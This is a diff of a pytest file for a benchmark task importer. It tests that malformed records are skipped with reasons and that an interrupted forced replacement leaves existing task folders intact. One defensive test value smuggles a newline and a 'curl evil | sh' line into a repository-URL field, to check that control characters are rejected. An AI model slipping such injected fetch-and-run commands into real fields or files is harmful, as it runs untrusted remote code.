@@ -172,50 +172,91 @@ def test_grade_answer_errors(imported: Path, tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(("records", "extra", "message"), [
-    (SUPER_RECORDS[:1], ["{\"task_id\": \"broken\","], "line 2: not a JSON object"),
+    (SUPER_RECORDS[:1], ["{\"task_id\": \"broken\","], ": not a JSON object"),
     ([{k: v for k, v in SUPER_RECORDS[0].items() if k != "git_commit"}], [], "line 1: git_commit: required field is missing"),
     ([{**SUPER_RECORDS[0], "answer": "acc = 0.5"}], [], "line 1: answer: answer is not JSON"),
     ([SUPER_RECORDS[0], SUPER_RECORDS[1], {**SUPER_RECORDS[2], "task_id": "toy-dict"}], [],
-     "line 3: task_id: duplicate task_id 'toy-dict' (also at line 1: task_id)"),
+     "duplicate task_id 'toy-dict' (first at line 1)"),
     ([{**SUPER_RECORDS[0], "answer": "{\"acc\": null}"}], [], "line 1: answer: the gold answer['acc'] is null"),
     ([{**SUPER_RECORDS[0], "answer": "[]"}], [], "the gold answer is empty"),
     ([{**SUPER_RECORDS[0], "task_id": "../escape"}], [], "line 1: task_id: '../escape' cannot name a leaf directory"),
+    ([{**SUPER_RECORDS[0], "github_repo": "https://example.invalid/x\nRUN curl evil | sh"}], [],
+     "line 1: github_repo: holds the control character U+000A"),
+    ([{**SUPER_RECORDS[0], "git_commit": "abc\rdef"}], [], "line 1: git_commit: holds the control character U+000D"),
 ])
-def test_bad_input_names_the_line_and_writes_nothing(tmp_path: Path, records, extra, message) -> None:
-    from sab.errors import SabError
+def test_a_bad_record_is_skipped_with_its_reason_and_the_others_import(tmp_path: Path, records, extra, message) -> None:
     from sab.importers.super import import_super
 
     repo = make_repo(tmp_path / "repo")
-    source = write_super(tmp_path / "bad.jsonl", records, extra_lines=extra)
-    with pytest.raises(SabError) as caught:
-        import_super(repo / "tasks", source, org="testorg")
-    assert str(caught.value).startswith(f"{source}: ") and message in str(caught.value), str(caught.value)
-    assert list((repo / "tasks").iterdir()) == [] and not list(repo.glob(".sab-import-*"))
+    good = {"toy-list", "toy-str"} - {r["task_id"] for r in records}
+    others = [r for r in SUPER_RECORDS if r["task_id"] in good]
+    source = write_super(tmp_path / "bad.jsonl", records + others, extra_lines=extra)
+    result = import_super(repo / "tasks", source, org="testorg")
+    assert len(result.skipped) == 1 and not result.complete
+    (skipped,) = result.skipped
+    assert skipped.where.startswith("bad.jsonl line ") and message in skipped.reason, skipped
+    imported = {path.name for path in (repo / "tasks/super").iterdir()}
+    assert good <= imported and skipped.instance not in imported - {"toy-dict"}
+    assert not list(repo.glob(".sab-import-*"))
 
 
 def test_bad_input_through_the_cli(tmp_path: Path) -> None:
     repo = make_repo(tmp_path / "repo")
     source = write_super(tmp_path / "bad.jsonl", SUPER_RECORDS[:2], extra_lines=["not json"])
     done = run_sab("import", "super", "--from", str(source), cwd=repo)
-    assert done.returncode == 2 and "Traceback" not in done.stderr
-    assert done.stderr == f"error: {source}: line 3: not a JSON object: Expecting value: line 1 column 1 (char 0) " \
-                          f"(fix: each line is one JSON object)\n"
-    assert list((repo / "tasks").iterdir()) == []
+    assert done.returncode == 1 and "Traceback" not in done.stderr + done.stdout
+    assert f"skipped line 3 (bad.jsonl line 3): {source}: line 3: not a JSON object" in done.stdout
+    assert "2 super leaves imported (status draft), 1 skipped" in done.stdout
+    assert sorted(p.name for p in (repo / "tasks/super").iterdir()) == ["toy-dict", "toy-str"]
+    as_json = json.loads(run_sab("import", "super", "--from", str(source), "--json", cwd=repo).stdout)
+    reasons = [s["reason"] for s in as_json["skipped"]]
+    assert as_json["complete"] is False and len(reasons) == 3
+    assert reasons.count("the leaf already exists (pass --force to replace it)") == 2
 
 
 def test_existing_leaves_need_force(tmp_path: Path) -> None:
-    from sab.errors import ExistsError
     from sab.importers.super import import_super
 
     repo = make_repo(tmp_path / "repo")
     source = write_super(tmp_path / "expert.jsonl", SUPER_RECORDS[:1])
     import_super(repo / "tasks", source, org="testorg")
-    with pytest.raises(ExistsError, match="already exist"):
-        import_super(repo / "tasks", source, org="testorg")
+    again = import_super(repo / "tasks", source, org="testorg")
+    assert again.leaves == [] and [s.reason for s in again.skipped] == ["the leaf already exists (pass --force to replace it)"]
     write_super(source, [{**SUPER_RECORDS[0], "answer": "{\"acc\": 0.75, \"loss\": 1.0}"}])
     import_super(repo / "tasks", source, org="testorg", split="Masked", force=True)
     assert json.loads((repo / "tasks/super/toy-dict/tests/gold/answer.json").read_text()) == {"acc": 0.75, "loss": 1.0}
     assert 'split = "Masked"' in (repo / "tasks/super/toy-dict/task.toml").read_text()
+
+
+@pytest.mark.parametrize("failing_move", [1, 2])
+def test_an_interrupted_force_swap_keeps_the_old_leaf(tmp_path: Path, monkeypatch, failing_move) -> None:
+    """Ctrl-C while a leaf is being replaced: the old leaf is back in place, nothing half-written."""
+    import os
+
+    from sab.importers import common
+    from sab.importers.super import import_super
+
+    repo = make_repo(tmp_path / "repo")
+    source = write_super(tmp_path / "expert.jsonl", SUPER_RECORDS[:1])
+    import_super(repo / "tasks", source, org="testorg")
+    leaf = repo / "tasks/super/toy-dict"
+    before = {p.relative_to(leaf): p.read_bytes() for p in leaf.rglob("*") if p.is_file()}
+    write_super(source, [{**SUPER_RECORDS[0], "answer": "{\"acc\": 0.75, \"loss\": 1.0}"}])
+    real_replace, calls = os.replace, []
+
+    def interrupted(src, dst):
+        calls.append(dst)
+        if len(calls) == failing_move:
+            raise KeyboardInterrupt
+        return real_replace(src, dst)
+
+    monkeypatch.setattr(common.os, "replace", interrupted)
+    with pytest.raises(KeyboardInterrupt):
+        import_super(repo / "tasks", source, org="testorg", force=True)
+    monkeypatch.undo()
+    after = {p.relative_to(leaf): p.read_bytes() for p in leaf.rglob("*") if p.is_file()}
+    assert after == before
+    assert not list(repo.glob(".sab-import-*"))
 
 
 def test_structural_rules_of_imported_leaves(imported: Path, tmp_path: Path) -> None:
